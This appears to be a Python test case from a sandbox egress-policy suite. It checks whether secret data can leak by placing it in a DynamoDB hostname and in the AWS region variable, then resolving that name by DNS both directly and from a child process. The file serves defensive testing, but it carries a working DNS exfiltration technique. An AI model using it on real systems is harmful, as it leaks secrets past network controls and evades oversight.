# class: network
# rule: outbound_connectivity
# policy: buckets.yaml
# success: the region is set later, to a name that carries data, and a service is asked for there,
#   by a child as well
# proof: query
# needs: resolver
import os
import socket
import subprocess
import sys

from attack import SECRET, attempt

HOST = "dynamodb." + SECRET + ".amazonaws.com"
os.environ["AWS_REGION"] = os.environ["AWS_DEFAULT_REGION"] = SECRET


@attempt
def ask():
    return socket.getaddrinfo(HOST, 443)


@attempt
def ask_in_child():
    code = "import socket, sys; socket.getaddrinfo(sys.argv[1], 443)"
    return subprocess.run(
        [sys.executable, "-S", "-c", code, HOST], check=True, stderr=subprocess.DEVNULL
    )
